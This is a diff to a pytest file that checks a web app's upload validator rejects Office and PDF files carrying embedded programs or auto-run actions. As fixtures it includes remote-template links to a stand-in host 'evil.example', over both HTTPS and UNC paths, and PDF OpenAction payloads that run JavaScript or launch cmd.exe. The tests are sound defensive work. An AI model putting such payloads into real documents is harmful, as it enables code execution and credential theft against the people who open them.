@@ -2,10 +2,15 @@
 
 from __future__ import annotations
 
+import contextlib
+import io
+import random
+import zipfile
+
 import pytest
 from flask import Flask
 
-from tests.announcements.files import GPS, JPEG_AT_HOME, chunk, exif, jpeg, pdf, png, segment
+from tests.announcements.files import GPS, JPEG_AT_HOME, chunk, document, exif, jpeg, pdf, png, segment
 from webapp.announcements.file_check import MOST_TOGETHER, BadFile, checked, tidy_name
 from webapp.announcements.pictures import bare_jpeg, bare_png
 
@@ -95,6 +100,53 @@ def test_a_photo_cut_anywhere_is_damaged(app: Flask, cut: int) -> None:
     for name, whole in (("a.jpg", JPEG_AT_HOME), ("a.png", png(GPS))):
         with pytest.raises(BadFile):
             checked(name, whole[: len(whole) - cut])
+
+
+REMOTE = "word/_rels/settings.xml.rels"
+LINK = '<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="{}" TargetMode="External"/>'
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.docx", document("word/document.xml", "word/embeddings/run.exe")),
+        ("a.docx", document("word/document.xml", "word/embeddings/list.xlsm")),
+        ("a.xlsx", document("xl/workbook.xml", "xl/embeddings/x.JS")),
+        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("https://evil.example/x.dotm")})),
+        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("\\\\evil.example\\x.dotm")})),
+        ("a.pdf", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
+        ("a.pdf", pdf("/OpenAction<</S /Launch /F(cmd.exe)>>")),
+    ],
+)
+def test_a_program_within_a_document_goes_to_nobody(app: Flask, name: str, content: bytes) -> None:
+    with pytest.raises(BadFile, match=r"программа|program"):
+        checked(name, content)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.docx", document("word/document.xml", "word/embeddings/chart.xlsx", "word/media/photo.jpg")),
+        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("file:///C:/Users/Templates/a.dotm")})),
+        ("a.pdf", pdf("/JavaScripts /Launcher /JS")),
+    ],
+)
+def test_what_only_looks_like_one_goes(app: Flask, name: str, content: bytes) -> None:
+    assert checked(name, content).content == content
+
+
+@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2, zipfile.ZIP_DEFLATED])
+def test_a_document_with_any_byte_wrong_is_told_or_taken(app: Flask, method: int) -> None:
+    out, chance = io.BytesIO(), random.Random(95)
+    with zipfile.ZipFile(out, "w", method) as archive:
+        archive.writestr("[Content_Types].xml", "<Types>" + "x" * 500 + "</Types>")
+        archive.writestr("word/document.xml", "<a/>" * 50)
+    for _ in range(300):
+        broken = bytearray(out.getvalue())
+        for _ in range(chance.randint(1, 6)):
+            broken[chance.randrange(len(broken))] = chance.randrange(256)
+        with contextlib.suppress(BadFile):
+            checked("a.docx", bytes(broken))
 
 
 def test_files_and_a_letter_fit_into_what_mail_servers_take() -> None:
